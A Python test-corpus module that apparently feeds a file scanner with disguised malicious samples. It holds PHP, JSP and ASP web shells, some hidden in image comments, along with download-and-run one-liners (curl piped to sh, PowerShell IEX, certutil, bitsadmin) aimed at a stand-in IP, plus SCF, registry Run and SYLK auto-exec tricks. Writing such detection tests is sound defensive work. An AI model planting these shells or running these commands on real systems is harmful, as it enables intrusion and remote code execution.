"""Scripts and web shells, as text, as a spreadsheet's text, and inside pictures."""

from __future__ import annotations

import base64

from tests.support.corpus.pictures import jpeg_with_comment, picture, png_with
from tests.support.corpus.programs import encoded_pe
from tests.support.corpus.sample import NOT_TAKEN, always, samples

PHP = b"<?php system($_GET['c']); ?>"
EVAL = b"<?php @eval(base64_decode($_POST['x'])); ?>"
POWERSHELL = b"powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand "
COMMAND = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"))


SCRIPTS = samples(
    NOT_TAKEN,
    [
        ("shell-as-txt", "letter.txt", always(b"#!/bin/sh\ncurl http://192.0.2.1/a | sh\n")),
        ("python-as-csv", "accounts.csv", always(b"#!/usr/bin/env python3\nimport os\nos.system('id')\n")),
        ("perl-as-pdf", "statement.pdf", always(b"#!/usr/bin/perl\nsystem('id');\n")),
        ("powershell-as-txt", "letter.txt", always(POWERSHELL + COMMAND + b"\r\n")),
        (
            "powershell-download",
            "letter.txt",
            always(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n"),
        ),
        ("powershell-utf-16", "letter.txt", lambda: (POWERSHELL + COMMAND).decode().encode("utf-16")),
        ("powershell-itself", "letter.ps1", always(b"Start-Process calc\r\n")),
        (
            "batch-as-txt",
            "letter.txt",
            always(b"@echo off\r\nbitsadmin /transfer a http://192.0.2.1/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"),
        ),
        ("batch-itself", "letter.bat", always(b"@echo off\r\nstart calc\r\n")),
        ("vbscript-as-txt", "letter.txt", always(b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0\r\n')),
        ("jscript-as-csv", "accounts.csv", always(b'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc");\r\n')),
        (
            "hta-as-txt",
            "letter.txt",
            always(b'<HTA:APPLICATION id=a><script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script>'),
        ),
        ("certutil-as-txt", "letter.txt", always(b"certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe & a.exe\r\n")),
        ("php-as-txt", "letter.txt", always(PHP)),
        ("php-as-jpg", "photo.jpg", always(PHP)),
        ("php-eval-as-csv", "accounts.csv", always(b"name,balance\n" + EVAL + b",1\n")),
        ("php-in-jpeg-comment", "photo.jpg", lambda: jpeg_with_comment(PHP)),
        ("php-in-png-text", "photo.png", lambda: png_with(b"tEXt", b"Comment\0" + EVAL)),
        ("php-in-gif-comment", "photo.gif", lambda: picture("GIF", comment=PHP)),
        (
            "jsp-as-txt",
            "letter.txt",
            always(b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ),
        ("asp-as-txt", "letter.txt", always(b'<%@ Page Language="JScript"%><%eval(Request.Item["c"],"unsafe");%>')),
        (
            "registry-as-txt",
            "letter.reg",
            always(b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n"a"="calc"\r\n'),
        ),
        ("internet-shortcut", "letter.url", always(b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n")),
        ("shell-command-file", "letter.scf", always(b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\share\\a.ico\r\n")),
        (
            "settings-shortcut",
            "letter.txt",
            always(b'<?xml version="1.0"?><PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>'),
        ),
        (
            "style-sheet-script",
            "letter.txt",
            always(
                b'<stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</ms:script></stylesheet>'
            ),
        ),
        ("program-in-base64", "letter.txt", encoded_pe),
        ("web-query", "accounts.iqy", always(b"WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n")),
        (
            "symbolic-link-sheet",
            "accounts.slk",
            always(b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC("calc")\r\nE\r\n'),
        ),
    ],
)
